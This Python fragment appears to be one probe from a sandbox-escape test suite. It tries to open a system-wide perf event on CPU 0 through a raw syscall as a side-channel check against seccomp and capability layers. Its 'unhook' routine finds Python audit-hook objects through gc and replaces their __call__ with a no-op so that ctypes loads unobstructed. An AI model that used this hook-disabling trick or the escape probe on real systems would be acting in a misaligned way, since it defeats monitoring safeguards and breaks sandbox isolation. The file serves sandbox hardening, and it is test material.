# Opens a system-wide perf event (the CPU clock of every process on CPU 0, pid -1): measuring
# other processes is a side channel on the host. Closes it again.
# Escaped: the kernel opened the event.
def perf_system_wide(**_):
    import os, struct
    def unhook():  # the audit hook is a Python object: its class's __call__ becomes a no-op
        import gc
        gc.unfreeze()
        for obj in gc.get_objects():
            if "Audit" in type(obj).__name__ and callable(obj):
                try:
                    type(obj).__call__ = lambda self, *args: None
                except (TypeError, AttributeError):
                    pass

    unhook()
    try:
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
    except Exception as exc:  # the audit hook held, or there is no ctypes
        return {"escaped": False, "detail": f"no ctypes: {exc!r}"}
    libc.syscall.restype = ctypes.c_long

    def sys_call(nr, *args):  # (result, errno)
        ctypes.set_errno(0)
        res = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
        return res, (ctypes.get_errno() if res < 0 else 0)
    # struct perf_event_attr, first 64 bytes: PERF_TYPE_SOFTWARE, size, PERF_COUNT_SW_CPU_CLOCK,
    # sample period/type, read format, flags (disabled), wakeup events, bp type, config1
    attr = ctypes.create_string_buffer(struct.pack("=IIQQQQQIIQ", 1, 64, 0, 0, 0, 0, 1, 0, 0, 0), 64)
    fd, err = sys_call(298, attr, -1, 0, -1, 0)  # perf_event_open(attr, pid -1, cpu 0, no group)
    if fd < 0:
        return {"escaped": False, "detail": f"perf_event_open(system-wide) refused: {os.strerror(err)}"}
    os.close(fd)
    return {"escaped": True, "detail": "opened a system-wide perf event on CPU 0"}


# caps: with kernel.perf_event_paranoid >= 1 (the usual setting) it needs CAP_PERFMON.
LAYERS = ("seccomp", "caps")
NEEDS_ROOT = True
